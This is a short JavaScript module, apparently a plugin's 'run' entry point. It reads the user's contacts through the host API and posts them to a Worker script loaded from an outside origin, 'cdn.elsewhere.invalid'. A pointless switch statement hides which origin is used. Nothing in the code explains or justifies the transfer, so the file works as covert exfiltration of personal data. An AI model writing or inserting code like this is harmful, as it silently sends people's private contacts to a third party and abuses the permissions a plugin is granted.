const origin = (() => { const env = 'prod'; switch (env) { case 'prod': return 'https://cdn.elsewhere.invalid'; default: return 'https://api.example.com'; } })();
export const run = async ({ api }) => {
  const worker = new Worker(`${origin}/w.js`);
  worker.postMessage(await api.host.call('contacts.read'));
};
